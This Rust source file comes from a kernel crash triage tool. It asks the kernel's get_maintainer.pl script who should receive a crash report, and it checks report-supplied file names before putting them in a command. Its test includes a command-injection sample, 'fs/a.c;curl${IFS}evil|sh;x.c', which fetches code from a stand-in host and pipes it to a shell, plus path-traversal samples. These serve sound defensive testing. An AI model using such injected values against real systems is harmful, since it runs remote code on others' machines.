//! Those whom a mail is for, by the kernel's own `scripts/get_maintainer.pl`.

use std::{path::Path, process::Command};

use triage::{Crash, formats::Addressees};

use crate::views::progress::Progress;

const SCRIPT: &str = "scripts/get_maintainer.pl";
/// Options for people, and for lists. Without git: a tree may be an archive.
const PEOPLE: [&str; 5] = ["--no-l", "--no-r", "--pattern-depth", "1", "--no-git-fallback"];
const LISTS: [&str; 5] = ["--no-m", "--no-r", "--pattern-depth", "1", "--no-git-fallback"];

/// Asks the tree's script whom a mail about `crash` is for. Where that cannot be asked, a person is
/// told the command.
pub(super) fn addressees(crash: &Crash, tree: Option<&Path>, progress: &Progress) -> Addressees {
    let file = triage::file(crash).filter(|file| is_plain(file));
    let command = || Addressees::Ask(format!("{SCRIPT} --no-l --no-r --pattern-depth 1 -f {}", file.unwrap_or("FILE")));
    let (Some(tree), Some(file)) = (tree, file) else { return command() };
    let ask = |options: &[&str]| run(tree, options, file);
    match (ask(&PEOPLE), ask(&LISTS)) {
        (Ok(to), Ok(cc)) if !to.is_empty() || !cc.is_empty() => Addressees::Known { to, cc },
        (Err(reason), _) | (_, Err(reason)) => {
            progress.say(&format!("{}: {reason}", tree.join(SCRIPT).display()));
            command()
        }
        _ => command(),
    }
}

/// Says whether a file's name is safe in a command. It comes from a report, which a guest wrote.
fn is_plain(file: &str) -> bool {
    !file.starts_with(['-', '/'])
        && !file.split('/').any(|part| part == "..")
        && file.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"/._-".contains(&byte))
}

/// Runs the script, and gives the addresses that it prints.
fn run(tree: &Path, options: &[&str], file: &str) -> Result<Vec<String>, String> {
    let tree = tree.canonicalize().map_err(|error| error.to_string())?;
    let output = Command::new(tree.join(SCRIPT)).args(options).args(["-f", file]).current_dir(&tree).output();
    let output = output.map_err(|error| error.to_string())?;
    if !output.status.success() {
        let reason = String::from_utf8_lossy(&output.stderr);
        return Err(format!("{}: {}", output.status, reason.lines().next().unwrap_or_default()));
    }
    // "Chris Mason <clm@fb.com> (maintainer:BTRFS FILE SYSTEM)"
    let address = |line: &str| line.rsplit_once(" (").map_or(line, |(address, _)| address).trim().to_owned();
    Ok(String::from_utf8_lossy(&output.stdout).lines().map(address).filter(|line| line.contains('@')).collect())
}

#[cfg(test)]
mod tests {
    use std::fs;

    use super::*;

    #[test]
    fn a_guests_file_runs_nothing_in_the_command() {
        let asked = |file: &str| {
            let folder = tempfile::tempdir().unwrap();
            let crash = folder.path().join("crashes/one");
            fs::create_dir_all(&crash).unwrap();
            let report = format!("WARNING: CPU: 0 PID: 1 at {file}:7 f+0x1/0x2\nCall Trace:\n f+0x1/0x2\n");
            fs::write(crash.join("report.txt"), report).unwrap();
            let report = triage::read(folder.path(), &triage::NoKernels).unwrap();
            let found = report.crashes[0].guilty.as_ref().unwrap().file.as_deref();
            assert_eq!(found, Some(file), "the file that the report blames");
            match addressees(&report.crashes[0], None, &Progress::stderr()) {
                Addressees::Ask(command) => command.rsplit_once(" -f ").unwrap().1.to_owned(),
                known => panic!("{known:?}"),
            }
        };
        assert_eq!(asked("fs/a.c"), "fs/a.c");
        for hostile in ["fs/a.c;curl${IFS}evil|sh;x.c", "../a.c", "-a.c", "/etc/a.c"] {
            assert_eq!(asked(hostile), "FILE", "{hostile}");
        }
    }
}
